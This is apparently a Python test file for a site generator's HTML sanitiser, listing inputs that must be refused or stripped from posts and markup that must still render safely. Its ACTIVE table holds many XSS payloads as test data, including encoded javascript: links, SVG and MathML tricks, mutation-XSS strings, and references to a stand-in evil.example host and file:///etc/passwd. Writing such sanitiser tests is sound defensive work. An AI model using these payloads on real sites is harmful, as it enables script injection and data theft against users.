"""Raw HTML: what is active never passes, whoever wrote it; what is unclosed breaks neither page nor feed."""

from __future__ import annotations

from tests.battery.case import POST, Case, body, fine, guest, lacks, refused, shows, warned

PAGE = "posts/case/index.html"
ACTIVE = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt src=//evil.example></sCrIpT>",
    "script never closed": "<script>alert(1)",
    "a module": '<script type="module">import("x")</script>',
    "a handler": '<p onclick="alert(1)">x</p>',
    "a handler on an image": '<img src="first/dot.png" alt="x" onerror="alert(1)">',
    "a handler in capitals": "<b OnMouseOver=alert(1)>x</b>",
    "a handler after a slash": "<svg/onload=alert(1)></svg>",
    "a handler on details": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "javascript:": '<a href="javascript:alert(1)">x</a>',
    "javascript: in Markdown": "[x](javascript:alert(1))",
    "javascript: in Markdown, encoded": "[x](&#106;avascript:alert(1))",
    "javascript: by reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "javascript: in capitals": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript: with a tab": '<a href="java&#9;script:alert(1)">x</a>',
    "javascript: with a line break": '<a href="java&#10;script:alert(1)">x</a>',
    "javascript: behind a blank": '<a href=" &#32;javascript:alert(1)">x</a>',
    "javascript: in references": '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
    "vbscript:": '<a href="vbscript:msgbox(1)">x</a>',
    "data: in a link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data: in an embed": '<embed src="data:text/html,x">',
    "file:": "[x](file:///etc/passwd)",
    "blob:": "[x](blob:https://evil.example/1)",
    "a base": '<base href="https://evil.example/">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "a refresh to script": '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1)">',
    "a style sheet": "<style>@import url(https://evil.example/x.css);</style>",
    "a linked style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "a style with an address": '<p style="background:url(https://evil.example/)">x</p>',
    "a style with an escaped address": '<p style="background:\\75rl(https://evil.example/)">x</p>',
    "a style with an expression": '<p style="width:expression(alert(1))">x</p>',
    "an object": '<object data="x.swf"></object>',
    "an embed": '<embed src="x.swf">',
    "an applet": "<applet code=x></applet>",
    "a form": '<form action="https://evil.example/"><input name="q"></form>',
    "a button that sends": '<button formaction="javascript:alert(1)">x</button>',
    "a frame with its own page": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "a frame of script": '<iframe src="javascript:alert(1)"></iframe>',
    "a frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "a link in SVG": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "script in SVG": "<svg><script>alert(1)</script></svg>",
    "an animation in SVG": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
    "a set in SVG": '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "a foreign object": "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "a link in MathML": '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "a style in MathML": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext>",
    "a textarea": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "plaintext": "<plaintext>",
    "a title": '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    "a template": "<template><script>alert(1)</script></template>",
    "a srcset of script": '<img src="first/dot.png" alt="x" srcset="javascript:alert(1) 2x">',
    "a ping": '<a href="second.md" ping="https://evil.example/">x</a>',
    "a background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "a cite of script": '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "an attribute list of Markdown": "x\n{: onclick=alert(1) }",
    "an attribute list on a link": "[x](second.md){: onclick=alert(1) }",
}
"""What runs, loads or sends. A trusted author is refused for it; from a guest it is refused or taken out and told."""
HARMLESS = {
    "javascript: in an automatic link": "<javascript:alert(1)>",
    "noscript": '<noscript><p title="</noscript><b onclick=alert(1)>"></noscript>',
    "a document around": "<html><body onload=alert(1)><p>x</p></body></html>",
    "ends of page and article": "</article></main></body></html><p>after</p>",
    "unclosed tags": "<div><b><i><table><tr><td>x",
    "ends without beginnings": "</div></div></p></section></b>",
    "a comment": "before <!-- our margin is 40 --> after",
    "a conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "a processing instruction": "<?php echo 1; ?>",
    "a doctype": "<!DOCTYPE html>",
    "a quote never closed": '<p title="x>y</p>\n\nmore',
    "tags across paragraphs": "<b>\n\none\n\n</b>\n\ntwo",
    "code that looks active": '`<script>alert(1)</script>`\n\n    <img onerror=x>\n\n```\n<a href="javascript:x">\n```',
}
"""What breaks pages elsewhere. Here it is built: the page about it stays whole, and nothing runs."""


LINES = {
    **dict.fromkeys((f"javascript: {how}" for how in ("with a tab", "with a line break", "behind a blank")), 9),
    **dict.fromkeys((f"javascript: in {what}" for what in ("Markdown, encoded", "references")), 9),
    "javascript: by reference": 12,
    "an attribute list of Markdown": 11,
}
"""Where what is told does not stand in line 10; what is encoded is not found, and told at the article's first line."""


def told(name: str) -> str:
    return f"{POST}:{LINES.get(name, 10)}: html: "


REFUSED = frozenset(
    [
        *("a textarea", "xmp", "a title", "a srcset of script", "a cite of script"),
        *("a frame with its own page", "a frame of script"),
    ]
)
"""What a guest is refused for: what the sanitiser leaves of it is active, or a picture without words."""
TOLD = frozenset(["a document around", "CDATA", "noscript", "javascript: in an automatic link"])
"""What a guest is told of, and a trusted author may write."""

CASES: list[Case] = [
    *(refused(f"{name}, trusted", body(content), told(name)) for name, content in ACTIVE.items()),
    *(
        (refused if name in REFUSED else warned)(f"{name}, guest", guest(content), told(name))
        for name, content in ACTIVE.items()
    ),
    *(fine(f"{name}, trusted", body(content), absent=("our margin",)) for name, content in HARMLESS.items()),
    *(
        warned(f"{name}, guest", guest(content), f"{POST}:10: html: warning: <", absent=("our margin",))
        if name in TOLD
        else fine(f"{name}, guest", guest(content), absent=("our margin",))
        for name, content in HARMLESS.items()
    ),
    warned(
        "a picture of data:",
        body('<img src="data:image/png;base64,AAAA" alt="x">'),
        f"{POST}:10: image: warning: data:image/png;base64,AAAA is not shown.",
        check=shows(PAGE, "data:image/png"),
    ),
    fine(
        "a table and a figure, guest",
        guest("|a|b|\n|-|-|\n|1|2|\n\n<figure><figcaption>x</figcaption></figure>"),
        check=shows(PAGE, "<figcaption>x"),
    ),
    fine(
        "templates in a body",
        body("{{ 7+7 }} {% include x %} {# c #} ${7+7}"),
        check=shows(PAGE, "{{ 7+7 }} {% include x %} {# c #} ${7+7}"),
    ),
    *(
        refused(
            f"a comment never closed, {who}",
            by("before\n\n<!-- our margin is 40"),
            f"{POST}:12: html: a comment is never closed. Close it with -->.",
        )
        for who, by in (("trusted", body), ("guest", guest))
    ),
    refused("a comment with an end in it", body("<!-- a --!> <b onclick=alert(1)>x</b> -->"), f"{POST}:"),
    fine("a comment that is shown", body("`<!--` and \\<!--")),
    fine("an empty body", body("")),
    fine("a body of one entity", body("&nbsp;"), check=lacks(PAGE, "nbsp;nbsp")),
]
